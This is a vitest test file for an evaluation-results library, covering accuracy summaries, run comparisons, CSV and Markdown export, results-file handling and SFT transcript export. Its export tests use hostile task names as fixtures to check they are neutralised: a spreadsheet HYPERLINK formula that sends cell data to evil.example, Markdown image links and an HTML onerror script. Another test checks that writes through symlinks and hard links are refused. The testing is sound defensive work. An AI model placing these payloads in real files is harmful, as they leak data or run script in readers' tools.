import { appendFileSync, existsSync, linkSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import MarkdownIt from 'markdown-it';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadTasks } from '../../../src/eval/load';
import { appendResult, compareRuns, comparisonToMarkdown, formatResultLine, readResults, resultRecordSchema, summarize, toCsv, toMarkdown, type ResultRecord } from '../../../src/eval/results';
import { rolloutGroups } from '../../../src/eval/export/rollouts';
import { sftJsonl } from '../../../src/eval/export/sft';
import { NOT_RUN_MESSAGE } from '../../../src/trajectory/execResult';
import { UnsafeOutputPathError } from '../../../src/eval/safeWrite';
import { scoreAnswer } from '../../../src/eval/score';
import type { TaskRecord } from '../../../src/eval/types';
import { TASKS_DIR } from './dataDir';

let dir = '';
let tasks: TaskRecord[] = [];

beforeAll(async () => {
  dir = mkdtempSync(path.join(os.tmpdir(), 'r1ci-eval-results-'));
  // Results are built from real records and real scoring, with answers chosen per test.
  const game24 = await loadTasks(path.join(TASKS_DIR, 'game24_dataset'));
  const navigate = await loadTasks(path.join(TASKS_DIR, 'BIG-Bench-Hard', 'bbh', 'navigate.json'));
  tasks = [...game24.records.slice(0, 4), ...navigate.records.slice(0, 4)];
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

function result(task: TaskRecord, answer: string | null, extra: Partial<ResultRecord> = {}): ResultRecord {
  const s = scoreAnswer(task, answer);
  return {
    id: task.id,
    task: task.task,
    question: task.question,
    ...(s.expected !== undefined ? { expected: s.expected } : {}),
    answer,
    correct: s.correct,
    reason: s.reason,
    turns: 1,
    codeCalls: 0,
    usedCode: false,
    durationMs: 1000,
    model: 'qwen2.5:7b',
    temperature: 0,
    seed: 1,
    textOnly: false,
    ...extra,
  };
}

function storedSolution(t: TaskRecord): string {
  return t.scorer.kind === 'arithmetic_target' ? (t.scorer.solution ?? '') : String(t.metadata.target);
}

function task(i: number): TaskRecord {
  const t = tasks[i];
  if (!t) throw new Error(`no task ${i}`);
  return t;
}

/** Game 24 rows 0–3 and navigate 4–7: right answers where `good`, nonsense otherwise. */
function run(good: readonly boolean[]): ResultRecord[] {
  return tasks.map((t, i) => {
    return result(t, good[i] ? storedSolution(t) : 'wrong', { turns: i % 2 === 0 ? 1 : 3, codeCalls: i % 2 === 0 ? 0 : 2, usedCode: i % 2 === 1 });
  });
}

describe('summaries', () => {
  it('computes per-task and overall accuracy, turns, code calls and code share', () => {
    const s = summarize(run([true, true, false, true, true, false, false, false]));
    expect(s.tasks.map((t) => t.task)).toEqual(['game24', 'navigate']);
    expect(s.tasks[0]).toMatchObject({ n: 4, correct: 3, accuracy: 0.75, meanTurns: 2, meanCodeCalls: 1, usedCodeShare: 0.5 });
    expect(s.tasks[1]).toMatchObject({ n: 4, correct: 1, accuracy: 0.25 });
    expect(s.overall).toMatchObject({ n: 8, correct: 4, accuracy: 0.5, answered: 8, errors: 0 });
    expect(s.macroAccuracy).toBe(0.5);
    expect(s.models).toEqual(['qwen2.5:7b']);
  });

  it('counts a repeated id once (the last attempt) and excludes unanswered from the code share', () => {
    const rs = [result(task(0), 'wrong', { usedCode: true }), result(task(0), null, { error: 'timeout' }), result(task(1), storedSolution(task(1)))];
    const s = summarize(rs);
    expect(s.overall).toMatchObject({ n: 2, correct: 1, answered: 1, errors: 1, usedCodeShare: 0 });
  });

  it('compares runs over the questions both answered: a task only in A is listed without a delta and left out of Overall and Macro', () => {
    const a = run([true, false, false, false, true, true, true, true]);
    const b = run([true, true, true, false, true, true, false, false]).filter((r) => r.task === 'game24');
    const c = compareRuns(a, b);
    expect(c.tasks).toEqual([
      { task: 'game24', a: 0.25, b: 0.75, delta: 0.5, nA: 4, nB: 4, shared: 4 },
      { task: 'navigate', a: 1, b: null, delta: null, nA: 4, nB: 0, shared: 0 },
    ]);
    // Unpaired, A's overall would be 62.5% (with navigate) and the delta +12.5 pt.
    expect(c.overall).toEqual({ a: 0.25, b: 0.75, delta: 0.5 });
    expect(c.macro).toEqual({ a: 0.25, b: 0.75, delta: 0.5 });
    expect([c.shared, c.onlyA, c.onlyB]).toEqual([4, 4, 0]);
    const md = comparisonToMarkdown(c);
    expect(md.split('\n')[0]).toBe('Compared: the 4 questions both runs answered (only in A: 4 questions, only in B: 0 questions); the accuracies and B − A below are over these.');
    expect(md).toContain('| game24 | 25.0% | 75.0% | +50.0 pt |');
    expect(md).toContain('| navigate | 100.0% | – | – (only in A) |');
    expect(md).toContain('| **Overall** | 25.0% | 75.0% | +50.0 pt |');
    expect(md).toContain('| **Macro** | 25.0% | 75.0% | +50.0 pt |');
  });

  it('partly overlapping runs: each task is paired over its shared questions; a task in both runs with no shared question has no delta', () => {
    const all = run([true, true, false, false, true, false, true, false]);
    const allB = run([false, true, true, true, false, false, true, true]);
    const a = all.filter((_, i) => [0, 1, 2, 4, 5].includes(i));
    const b = allB.filter((_, i) => [1, 2, 3, 6, 7].includes(i));
    const c = compareRuns(a, b);
    expect(c.tasks).toEqual([
      // game24 rows 1 and 2: A right, wrong; B right, right.
      { task: 'game24', a: 0.5, b: 1, delta: 0.5, nA: 2, nB: 2, shared: 2 },
      // navigate: A has rows 4–5, B rows 6–7, none shared: each run's own accuracy, no delta.
      { task: 'navigate', a: 0.5, b: 1, delta: null, nA: 2, nB: 2, shared: 0 },
    ]);
    expect(c.overall).toEqual({ a: 0.5, b: 1, delta: 0.5 });
    expect(c.macro).toEqual({ a: 0.5, b: 1, delta: 0.5 });
    expect([c.shared, c.onlyA, c.onlyB]).toEqual([2, 3, 3]);
    expect(comparisonToMarkdown(c)).toContain('| navigate | 50.0% | 100.0% | – (no shared question) |');
    // Swapping the runs swaps the sides and negates the deltas.
    const swapped = compareRuns(b, a);
    expect(swapped.overall).toEqual({ a: 1, b: 0.5, delta: -0.5 });
    expect([swapped.onlyA, swapped.onlyB]).toEqual([3, 3]);
  });

  it('multi-sample runs: every sample of a shared id counts, a resumed attempt only once', () => {
    const [q0, q1, q2] = [task(0), task(1), task(2)];
    const right = (t: TaskRecord, sample: number): ResultRecord => result(t, storedSolution(t), { sample });
    const wrong = (t: TaskRecord, sample: number): ResultRecord => result(t, 'wrong', { sample });
    // A: q0 3/3 right, q1 1/3 right (sample 2 retried: wrong, then right — the last attempt counts); q2 only in A.
    const a = [right(q0, 0), right(q0, 1), right(q0, 2), wrong(q1, 0), wrong(q1, 1), wrong(q1, 2), right(q1, 2), right(q2, 0)];
    // B: one sample each, no sample field (as a single-sample run writes it).
    const b = [result(q0, 'wrong'), result(q1, storedSolution(q1)), result(task(3), 'wrong')];
    const c = compareRuns(a, b);
    expect([c.shared, c.onlyA, c.onlyB]).toEqual([2, 1, 1]);
    expect(c.tasks).toEqual([{ task: 'game24', a: 4 / 6, b: 0.5, delta: 0.5 - 4 / 6, nA: 6, nB: 2, shared: 2 }]);
    expect(c.overall).toEqual({ a: 4 / 6, b: 0.5, delta: 0.5 - 4 / 6 });
  });

  it('runs with no question in common: no Overall, Macro or delta, and the Markdown says so', () => {
    const all = run([true, true, true, true, false, false, false, false]);
    const c = compareRuns(
      all.filter((r) => r.task === 'game24'),
      all.filter((r) => r.task === 'navigate'),
    );
    expect([c.shared, c.onlyA, c.onlyB, c.overall, c.macro]).toEqual([0, 4, 4, null, null]);
    expect(c.tasks.map((t) => t.delta)).toEqual([null, null]);
    const md = comparisonToMarkdown(c);
    expect(md.split('\n')[0]).toBe('No question is in both runs (only in A: 4 questions, only in B: 4 questions): nothing to compare.');
    expect(md).toContain('| game24 | 100.0% | – | – (only in A) |');
    expect(md).toContain('| navigate | – | 0.0% | – (only in B) |');
    expect(md).not.toMatch(/Overall|Macro| pt /);
  });

  it('exports Markdown and CSV', () => {
    const s = summarize(run([true, true, false, true, true, false, false, false]));
    const md = toMarkdown(s);
    expect(md).toContain('| game24 | 4 | 3 | 75.0% | 0.75 | 2.00 | 1.00 | 50.0% | 0 |');
    expect(md).toContain('| **Overall** | 8 | 4 | 50.0% |');
    expect(md).toContain('Macro accuracy (mean over 2 tasks)');
    expect(toMarkdown(summarize(run([true, true, false, true, true, false, false, false]).filter((r) => r.task === 'game24')))).toContain('Macro accuracy (mean over 1 task): ');
    const csv = toCsv(s).trim().split('\n');
    expect(csv[0]).toBe('task,n,correct,accuracy,mean_score,mean_turns,mean_code_calls,used_code_share,answered,errors');
    expect(csv[1]).toBe('game24,4,3,0.75,0.75,2,1,0.5,4,0');
    expect(csv[3]?.startsWith('overall,8,4,0.5,')).toBe(true);
    const odd = summarize([{ ...result(task(0), 'x'), task: 'a,"b"' }]);
    expect(toCsv(odd).split('\n')[1]?.startsWith('"a,""b""",1,0,0,')).toBe(true);
  });

  it('exports task names from a task file as data: no spreadsheet formula, no Markdown link, image or HTML', () => {
    const names = ['=HYPERLINK("https://evil.example/?"&A1,"x")', '+1+cmd', '-2+3', '@SUM(A1)', '\t=1', '<img src=https://evil.example/t.png>', '![x](https://evil.example/p.png)', '[run](command:r1ci.solve)'];
    const s = summarize(names.map((name, i) => ({ ...result(task(i), 'x'), id: `q${i}`, task: name })));
    const cells = toCsv(s)
      .trim()
      .split('\n')
      .slice(1, -1)
      .map((line) => (line.startsWith('"') ? line.slice(1) : line));
    // A spreadsheet runs a cell that starts with = + - @ (or a tab/CR before one) as a formula.
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const md = toMarkdown(s);
    expect(md).not.toMatch(/(?<!\\)<img/);
    expect(md).not.toMatch(/(?<!\\)\[(?:x|run)\]\(/);
    expect(md).toContain('\\<img src=https://evil.example/t.png>');
  });

  it('exports task and model names as Markdown that forms no link, image or HTML, however they escape or end lines', () => {
    const names = ['\\[run](command:r1ci.solve)', 'a\\\\![x](https://evil.example/p.png)', 'b\r[r]: https://evil.example/q.png', '![x][r] \\<img src=x onerror=alert(1)>'];
    const runA = names.map((name, i) => ({ ...result(task(i), 'x'), id: `q${i}`, task: name, model: '\\![m](https://evil.example/m.png)' }));
    const runB = runA.map((r) => ({ ...r, correct: !r.correct }));
    const md = new MarkdownIt({ html: true });
    const markup = (text: string): string[] => {
      const found: string[] = [];
      const walk = (tokens: ReturnType<MarkdownIt['parse']>): void => {
        for (const t of tokens) {
          if (['link_open', 'image', 'html_inline', 'html_block'].includes(t.type)) found.push(`${t.type} ${t.attrGet('href') ?? t.attrGet('src') ?? t.content}`);
          if (t.children) walk(t.children);
        }
      };
      walk(md.parse(text, {}));
      return found;
    };
    expect(markup(toMarkdown(summarize(runA)))).toEqual([]);
    expect(markup(comparisonToMarkdown(compareRuns(runA, runB)))).toEqual([]);
    // Each task keeps its own row.
    expect(
      toMarkdown(summarize(runA))
        .split('\n')
        .filter((line) => line.startsWith('| ')).length,
    ).toBe(names.length + 2);
  });
});

describe('partial credit', () => {
  it('accuracy counts only full scores; the mean score counts partial credit beside it', () => {
    const base = run([true, false, false, false]).filter((r) => r.task === 'game24');
    const [a, b, c, d] = base;
    if (!a || !b || !c || !d) throw new Error('fixture');
    const s = summarize([{ ...a, score: 1 }, { ...b, score: 0.5 }, { ...c, score: 0.25 }, { ...d }]);
    expect(s.overall.correct).toBe(1);
    expect(s.overall.accuracy).toBeCloseTo(0.25);
    expect(s.overall.meanScore).toBeCloseTo((1 + 0.5 + 0.25 + 0) / 4);
    expect(resultRecordSchema.safeParse({ ...a, score: 1.5 }).success).toBe(false);
  });
});

describe('results files', () => {
  it('round-trips appended results and ignores an unfinished last line', async () => {
    const file = path.join(dir, 'run.jsonl');
    const rs = run([true, false, true, false, true, false, true, false]);
    for (const r of rs.slice(0, 3)) await appendResult(file, r);
    appendFileSync(file, formatResultLine(rs[3]!).slice(0, 40));
    const read = await readResults(file);
    expect(read.truncatedTail).toBe(true);
    expect(read.problems).toEqual([]);
    expect(read.results).toEqual(rs.slice(0, 3));
  });

  it('with repair, cuts the partial line so appending resumes cleanly', async () => {
    const file = path.join(dir, 'resume.jsonl');
    const rs = run([true, true, true, true, false, false, false, false]);
    writeFileSync(file, formatResultLine(rs[0]!) + formatResultLine(rs[1]!).slice(0, 25));
    const first = await readResults(file, { repair: true });
    expect(first.results).toHaveLength(1);
    await appendResult(file, rs[1]!);
    const second = await readResults(file);
    expect(second).toEqual({ results: rs.slice(0, 2), problems: [], truncatedTail: false });
    expect(readFileSync(file, 'utf8').split('\n').filter(Boolean)).toHaveLength(2);
  });

  it('never reads, repairs or appends through a link: the target keeps every byte', async () => {
    const rs = run([true, true, true, true, false, false, false, false]);
    const victim = path.join(dir, 'victim.txt');
    const body = formatResultLine(rs[0]!) + formatResultLine(rs[1]!).slice(0, 25); // a tail repair would cut
    writeFileSync(victim, body);
    const link = path.join(dir, 'linked.jsonl');
    symlinkSync(victim, link);
    await expect(readResults(link, { repair: true })).rejects.toThrow(`${link} is a symbolic link`);
    await expect(readResults(link)).rejects.toThrow(UnsafeOutputPathError);
    await expect(appendResult(link, rs[1]!)).rejects.toThrow(UnsafeOutputPathError);
    const dangling = path.join(dir, 'dangling.jsonl');
    symlinkSync(path.join(dir, 'created-by-link.txt'), dangling);
    await expect(appendResult(dangling, rs[1]!)).rejects.toThrow(UnsafeOutputPathError);
    expect(existsSync(path.join(dir, 'created-by-link.txt'))).toBe(false);
    const hard = path.join(dir, 'hard.jsonl');
    linkSync(victim, hard);
    await expect(readResults(hard, { repair: true })).rejects.toThrow(/hard links/);
    await expect(appendResult(hard, rs[1]!)).rejects.toThrow(/hard links/);
    expect(readFileSync(victim, 'utf8')).toBe(body);
  });

  it('reports bad lines in the middle by line number and treats a missing file as empty', async () => {
    const file = path.join(dir, 'bad.jsonl');
    const rs = run([true, true, true, true, true, true, true, true]);
    writeFileSync(file, [formatResultLine(rs[0]!).trim(), '{oops', JSON.stringify({ id: 'x' }), formatResultLine(rs[1]!).trim(), ''].join('\n'));
    const read = await readResults(file);
    expect(read.results).toHaveLength(2);
    expect(read.problems.map((p) => p.line)).toEqual([2, 3]);
    expect(read.problems[1]?.message).toMatch(/task/);
    expect(await readResults(path.join(dir, 'none.jsonl'))).toEqual({ results: [], problems: [], truncatedTail: false });
  });

  it('refuses to write an invalid record', () => {
    const bad = { ...result(task(0), '1'), turns: -1 };
    expect(() => formatResultLine(bad)).toThrow();
    expect(resultRecordSchema.safeParse(result(task(0), '1')).success).toBe(true);
  });
});

describe('SFT transcripts', () => {
  it('keeps only correct multi-turn trajectories, as chat JSONL', () => {
    const t = task(0);
    const solution = storedSolution(t);
    const multi = [
      { role: 'user' as const, content: t.question },
      { role: 'assistant' as const, content: '```python\nprint(1)\n```' },
      { role: 'user' as const, content: 'Code Execution Results: 1' },
      { role: 'assistant' as const, content: `<<<${solution}>>>` },
    ];
    const single = [multi[0]!, { role: 'assistant' as const, content: `<<<${solution}>>>` }];
    const rs = [
      result(t, solution, { trajectory: multi, codeCalls: 1, usedCode: true }),
      result(task(1), 'wrong', { trajectory: multi, codeCalls: 1, usedCode: true }),
      result(task(2), storedSolution(task(2)), { trajectory: single }),
      result(task(3), storedSolution(task(3))),
    ];
    expect(rs.map((r) => r.correct)).toEqual([true, false, true, true]);
    const lines = sftJsonl(rs, { format: 'chat' }).text.trim().split('\n');
    expect(lines).toHaveLength(1);
    expect(JSON.parse(lines[0]!)).toEqual({ messages: multi });
  });

  // The basic tier without consent: the model's code came back "not run" and it answered anyway.
  it('leaves out a right answer whose code was refused (written, never run), with --include-text-only too', () => {
    const t = task(0);
    const solution = storedSolution(t);
    const refused = [
      { role: 'user' as const, content: t.question },
      { role: 'assistant' as const, content: '```python\nprint(1)\n```' },
      { role: 'user' as const, content: `Code Execution Results: ${NOT_RUN_MESSAGE}` },
      { role: 'assistant' as const, content: `<<<${solution}>>>` },
    ];
    const steps = [{ text: '```python\nprint(1)\n```', code: 'print(1)', output: { stdout: '', stderr: '', exitCode: 1, durationMs: 0, timedOut: false, truncated: false, killMessage: NOT_RUN_MESSAGE } }];
    const r = result(t, solution, { trajectory: refused, codeCalls: 1, usedCode: true, steps });
    expect(r.correct).toBe(true);
    expect(sftJsonl([r], { format: 'chat' }).count).toBe(0);
    expect(sftJsonl([r], { format: 'chat', includeTextOnly: true }).count).toBe(0);
    // A rollout keeps it (it is what the policy did), marked, beside one whose code ran.
    const ran = result(task(1), storedSolution(task(1)), { trajectory: refused.map((m) => (m.content.includes(NOT_RUN_MESSAGE) ? { ...m, content: 'Code Execution Results: 1' } : m)), codeCalls: 1, usedCode: true });
    expect(rolloutGroups([r, ran]).map((g) => g.samples.map((s) => s.code_refused))).toEqual([[true], [false]]);
  });
});
